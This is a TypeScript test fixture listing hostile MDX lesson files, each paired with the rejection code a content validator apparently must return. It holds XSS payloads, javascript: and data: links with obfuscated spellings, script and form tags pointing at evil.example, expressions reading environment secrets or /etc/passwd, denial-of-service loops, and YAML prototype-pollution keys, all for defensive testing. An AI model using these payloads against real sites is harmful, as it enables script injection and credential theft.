import type { HostileFile } from './hostile-file.ts'

const WRITE = `require('fs').writeFileSync('CANARY', 'x')`

export const HEAD = '---\ntitle: 课\ntitle_en: Lesson\nminutes: 5\nsummary: 一课\n---\n'

const lesson = (front: string, body = '正文\n') => `---\n${front}\n---\n${body}`
const plain = 'title: 课\ntitle_en: Lesson\nminutes: 5\nsummary: 一课'

export const QUIZ = `pass_percent: 60
questions:
  - id: q1
    kind: single
    prompt: 检修前先做什么？
    options: [{ id: a, text: 验电 }, { id: b, text: 开工 }]
    answer: [a]
    why: 没有验电，一律按有电处理。
`

const bytes = (...parts: (string | number)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : Buffer.from([part]))))

/** Lessons that try to run, reach, exhaust or deceive. */
export const hostile: HostileFile[] = [
  // Code by MDX's own means
  { name: 'an import', code: 'import_export', body: "§import fs from 'node:fs'\n\n正文\n" },
  { name: 'an import with a side effect', code: 'import_export', body: "§import '#db/client.server.ts'\n" },
  { name: 'an import of a file of the machine', code: 'import_export', body: "前\n\n§import x from '/etc/passwd'\n" },
  { name: 'an export that writes a file', code: 'import_export', body: `§export const x = ${WRITE}\n` },
  { name: 'an export of a layout', code: 'import_export', body: '§export default ({ children }) => children\n' },
  { name: 'a dynamic import', code: 'expression', body: "§{import('node:child_process')}\n" },
  { name: 'an expression that reads the environment', code: 'expression', body: '密码是§{process.env.DATABASE_URL}\n' },
  { name: 'an expression that writes a file', code: 'expression', body: `正文\n\n§{${WRITE}}\n` },
  { name: 'an expression that ends the process', code: 'expression', body: '§{process.exit(0)}\n' },
  { name: 'an endless loop', code: 'expression', body: '§{(() => { while (true) {} })()}\n' },
  {
    name: 'an allocation without end',
    code: 'expression',
    body: "§{(() => { const a = []; for (;;) a.push('x'.repeat(1e6)) })()}\n",
  },
  {
    name: 'the Function constructor',
    code: 'expression',
    body: `§{[].constructor.constructor("${WRITE.replaceAll("'", '')}")()}\n`,
  },
  { name: 'an expression deep in a list', code: 'expression', body: '- 一\n  - 二\n    - 三§{1 + 1}\n' },
  { name: 'an expression in a table cell', code: 'expression', body: '| a | b |\n| - | - |\n| 1 | §{process.pid} |\n' },
  { name: 'an expression in a heading', code: 'expression', body: '## 标题 §{globalThis}\n' },
  { name: 'an expression in a link text', code: 'expression', body: '[§{document.cookie}](https://example.org)\n' },
  { name: 'a comment expression', code: 'expression', body: '前§{/* 看不见 */}后\n' },
  {
    name: 'an expression in a component',
    code: 'expression',
    body: '<Example title="例">\n\n§{process.cwd()}\n\n</Example>\n',
  },
  { name: 'an expression that does not parse', code: 'mdx_syntax', body: '正文 {§while}\n' },
  { name: 'a brace that never closes', code: 'mdx_syntax', body: '正文 {process.env§\n' },
  // Attributes
  { name: 'a spread', code: 'spread', body: '<Callout §{...process.env}>\n\n内容\n\n</Callout>\n' },
  {
    name: 'an attribute expression',
    code: 'attribute_expression',
    body: `<Callout §title={${WRITE}}>\n\n内容\n\n</Callout>\n`,
  },
  {
    name: 'an attribute expression in a table',
    code: 'attribute_expression',
    body: '| a |\n| - |\n| <Figure src="f.svg" §alt={process.env.PATH} /> |\n',
  },
  { name: 'a bare attribute', code: 'attribute_expression', body: '<Callout §title>\n\n内容\n\n</Callout>\n' },
  {
    name: 'an event handler on a component',
    code: 'event_attribute',
    body: '<Callout §onClick="alert(1)">\n\n内容\n\n</Callout>\n',
  },
  {
    name: 'an event handler in odd letters',
    code: 'event_attribute',
    body: '<Example §ONMOUSEOVER="alert(1)">\n\n内容\n\n</Example>\n',
  },
  {
    name: 'dangerouslySetInnerHTML',
    code: 'attribute_expression',
    body: '<Callout §dangerouslySetInnerHTML={{ __html: "<script>" }} />\n',
  },
  {
    name: 'a style attribute',
    code: 'attribute_unknown',
    body: '<Callout §style="background:url(https://evil.example)">\n\n内容\n\n</Callout>\n',
  },
  { name: 'props handed to an island', code: 'attribute_unknown', body: '<Quiz §answers="all" />\n', quiz: QUIZ },
  {
    name: 'an attribute given twice',
    code: 'attribute_twice',
    body: '<Callout title="一" §title="二">\n\n内容\n\n</Callout>\n',
  },
  {
    name: 'the attribute __proto__',
    code: 'attribute_unknown',
    body: '<Callout §__proto__="x">\n\n内容\n\n</Callout>\n',
  },
  {
    name: 'a kind that is none',
    code: 'attribute_value',
    body: '<Callout §kind="javascript">\n\n内容\n\n</Callout>\n',
  },
  // Raw HTML
  { name: 'a script', code: 'raw_html', body: '§<script>alert(1)</script>\n' },
  { name: 'a script from elsewhere', code: 'raw_html', body: '前\n\n§<script src="https://evil.example/x.js" />\n' },
  { name: 'an image with a handler', code: 'event_attribute', body: '<img src="x" §onerror="alert(1)" />\n' },
  { name: 'an iframe', code: 'raw_html', body: '§<iframe src="https://evil.example" />\n' },
  { name: 'an HTML link to a script', code: 'link_scheme', body: '<a §href="javascript:alert(1)">看答案</a>\n' },
  { name: 'an SVG in the text', code: 'raw_html', body: '§<svg><circle r="1" /></svg>\n' },
  { name: 'a style sheet', code: 'raw_html', body: '§<style>body</style>\n' },
  {
    name: 'a form that takes passwords',
    code: 'raw_html',
    body: '§<form action="https://evil.example"><input name="password" /></form>\n',
  },
  { name: 'a harmless-looking div', code: 'raw_html', body: '正文 §<b>粗</b>\n' },
  { name: 'a fragment', code: 'raw_html', body: '§<>\n\n内容\n\n</>\n' },
  { name: 'a custom element', code: 'raw_html', body: '§<x-y />\n' },
  { name: 'an HTML comment', code: 'mdx_syntax', body: '前\n\n<§!-- 秘密 -->\n' },
  // Components
  { name: 'an unknown component', code: 'component_unknown', body: '§<Iframe src="x" />\n' },
  { name: 'a component of an object', code: 'component_unknown', body: '§<React.Fragment />\n' },
  { name: 'a component out of a prototype', code: 'raw_html', body: '§<constructor />\n' },
  { name: 'a namespaced element', code: 'raw_html', body: '§<xlink:href />\n' },
  { name: 'a wrapper', code: 'component_unknown', body: '§<MDXLayout>\n\n内容\n\n</MDXLayout>\n' },
  { name: 'a quiz in a callout', code: 'island_nested', body: '<Callout>\n\n§<Quiz />\n\n</Callout>\n', quiz: QUIZ },
  { name: 'a quiz in a list', code: 'island_nested', body: '- 一\n\n  §<Quiz />\n', quiz: QUIZ },
  { name: 'a quiz in a quotation', code: 'island_nested', body: '> §<Quiz />\n', quiz: QUIZ },
  { name: 'a quiz in a sentence', code: 'island_nested', body: '请答题 §<Quiz /> 然后继续\n', quiz: QUIZ },
  { name: 'two quizzes', code: 'island_twice', body: '<Quiz />\n\n§<Quiz />\n', quiz: QUIZ },
  { name: 'a quiz without questions', code: 'quiz_missing', body: '正文\n\n§<Quiz />\n' },
  { name: 'a component that never closes', code: 'mdx_syntax', body: '<Callout>\n\n内容\n' },
  // Addresses
  { name: 'a link to a script', code: 'link_scheme', body: '§[看](javascript:alert(1))\n' },
  { name: 'a script in odd letters', code: 'link_scheme', body: '§[看](JaVaScRiPt:alert%281%29)\n' },
  { name: 'a script behind an entity', code: 'link_scheme', body: '§[看](&#106;avascript:alert%281%29)\n' },
  { name: 'a script behind a tab', code: 'link_scheme', body: '§[看](<java&#9;script:alert(1)>)\n' },
  { name: 'a script in a definition', code: 'link_scheme', body: '[看][1]\n\n§[1]: javascript:alert(1)\n' },
  { name: 'a data address', code: 'link_scheme', body: '§[看](data:text/html;base64,PHNjcmlwdD4=)\n' },
  { name: 'a VBScript address', code: 'link_scheme', body: '§[看](vbscript:msgbox)\n' },
  { name: 'a link to a file of the machine', code: 'link_scheme', body: '§[看](file:///etc/passwd)\n' },
  { name: 'a link that changes the host', code: 'link_scheme', body: '§[看](//evil.example/x)\n' },
  { name: 'a link with a backslash', code: 'link_scheme', body: '§[看](</\\\\evil.example>)\n' },
  { name: 'a link that hides its host', code: 'link_scheme', body: '§[看](https://www.gov.cn@evil.example/)\n' },
  { name: 'a picture from elsewhere', code: 'image_source', body: '§![图](https://evil.example/pixel.png)\n' },
  { name: 'a picture as data', code: 'link_scheme', body: '<Figure §src="data:image/svg+xml,<svg/>" alt="图" />\n' },
  {
    name: 'a picture above the folder',
    code: 'image_source',
    body: '§<Figure src="../../../data/keys/index.svg" alt="图" />\n',
  },
  { name: 'a picture that is not there', code: 'image_missing', body: '§<Figure src="missing.svg" alt="图" />\n' },
  // Front matter
  { name: 'front matter in JavaScript', code: 'front_matter_engine', file: `---js\n{ title: ${WRITE} }\n---\n正文\n` },
  {
    name: 'front matter in JavaScript, spelled out',
    code: 'front_matter_engine',
    file: `--- javascript\n{ title: ${WRITE} }\n---\n`,
  },
  { name: 'front matter in CoffeeScript', code: 'front_matter_engine', file: '---coffee\ntitle: 1\n---\n' },
  { name: 'front matter in JSON', code: 'front_matter_engine', file: '---json\n{}\n---\n' },
  { name: 'front matter in TOML', code: 'front_matter_engine', file: '+++\ntitle = "x"\n+++\n' },
  {
    name: 'front matter after the first line',
    code: 'front_matter_missing',
    file: `\n---js\n{ title: ${WRITE} }\n---\n`,
  },
  { name: 'front matter that never ends', code: 'front_matter_open', file: '---\ntitle: 课\n\n正文\n' },
  {
    name: 'a second front matter that runs',
    code: 'mdx_syntax',
    body: `---js\n{ title: ${WRITE} } }\n---\n`,
    place: '8:8',
  },
  {
    name: 'a YAML function',
    code: 'yaml_tag',
    file: lesson('title: §!!js/function "function () { return 1 }"\ntitle_en: x\nminutes: 5\nsummary: x'),
  },
  {
    name: 'YAML aliases that multiply',
    code: 'yaml_alias',
    file: lesson('title: &a §[x, x]\ntitle_en: [*a, *a]\nminutes: 5\nsummary: x'),
  },
  { name: 'YAML brackets without end', code: 'too_deep', file: lesson(`title: ${'['.repeat(12)}§${'['.repeat(2000)}`) },
  { name: 'an unknown YAML key', code: 'yaml_unknown', file: lesson(`${plain}\n§layout: ../admin`) },
  { name: 'a YAML key __proto__', code: 'yaml_unknown', file: lesson(`${plain}\n§__proto__: { isAdmin: true }`) },
  { name: 'a YAML key given twice', code: 'yaml_syntax', file: lesson(`title: 一\n§${plain}`) },
  // Size, shape, letters
  { name: 'a file of 65 KB', code: 'too_large', file: `${HEAD}${'正文正文正文正文\n'.repeat(2700)}` },
  { name: 'an endless line', code: 'long_line', body: `${'a'.repeat(4000)}§${'a'.repeat(10)}\n` },
  { name: 'nesting without end', code: 'too_deep', body: `${'> '.repeat(24)}§${'> '.repeat(100)}x\n` },
  {
    name: 'thousands of nodes',
    code: 'too_many_nodes',
    body: '*a* *b* *c* *d* *e* *f* *g* *h* *i* *j*\n\n'.repeat(1500),
    place: '1339:25',
  },
  { name: 'hundreds of formulas', code: 'too_many_formulas', body: `${'$x$ '.repeat(200)}§$y$\n` },
  { name: 'a formula that defines a macro', code: 'formula_command', body: '§$\\def\\a{\\a\\a}\\a$\n' },
  { name: 'a formula that links', code: 'formula_command', body: '正文 §$\\href{javascript:alert(1)}{x}$\n' },
  { name: 'a formula with HTML', code: 'formula_command', body: '§$\\htmlStyle{background:url(//e)}{x}$\n' },
  { name: 'a formula with a picture', code: 'formula_command', body: '§$\\includegraphics{https://evil.example/x}$\n' },
  { name: 'a formula in a code fence', code: 'node_unknown', body: '§```math\n\\def\\a{}\n```\n' },
  { name: 'a formula of a page', code: 'formula_long', body: `§$${'x+'.repeat(600)}x$\n` },
  { name: 'a formula that is wrong', code: 'formula_syntax', body: '§$\\frac{1}{$\n' },
  { name: 'a NUL byte', code: 'control_character', file: `${HEAD}正文§\0\n` },
  { name: 'text that runs backwards', code: 'control_character', body: '正§\u202e文\n' },
  { name: 'bytes that are no UTF-8', code: 'not_utf8', file: bytes(HEAD, 'abc', 0xff, 0xfe, '\n'), place: '7:4' },
  { name: 'an overlong encoding', code: 'not_utf8', file: bytes(HEAD, 0xc0, 0xbc, 'script>\n'), place: '7:1' },
  { name: 'UTF-16', code: 'not_utf8', file: bytes(0xff, 0xfe, 0x2d, 0, 0x2d, 0, 0x2d, 0) },
  // Quizzes
  {
    name: 'a quiz whose answer is no option',
    code: 'yaml_value',
    at: '01-lesson.quiz.yaml',
    file: QUIZ.replace('[a]', '§[z]'),
  },
  {
    name: 'a quiz with two right answers to one',
    code: 'yaml_value',
    at: '01-lesson.quiz.yaml',
    file: QUIZ.replace('[a]', '§[a, b]'),
  },
  { name: 'a quiz that the text does not place', code: 'quiz_unplaced', body: '正文\n', quiz: QUIZ },
]
